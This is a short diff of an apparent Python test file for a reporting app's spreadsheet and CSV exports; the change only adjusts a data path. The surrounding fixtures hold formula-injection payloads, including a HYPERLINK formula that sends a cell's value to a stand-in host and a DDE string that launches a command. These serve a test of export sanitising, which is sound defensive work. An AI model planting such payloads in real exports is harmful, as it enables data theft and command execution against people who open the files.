@@ -35,7 +35,7 @@ from reporting import services as report_services
 from reporting.exports import read_report_xlsx, render_xlsx
 from reporting.management.commands.annual_report import render_csv
 
-DATA = Path(__file__).parent / "data" / "ledger"
+DATA = Path(__file__).parents[1] / "data" / "ledger"
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")'
 HOSTILE = [HOSTILE_NAME, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=already quoted", "'plain apostrophe",
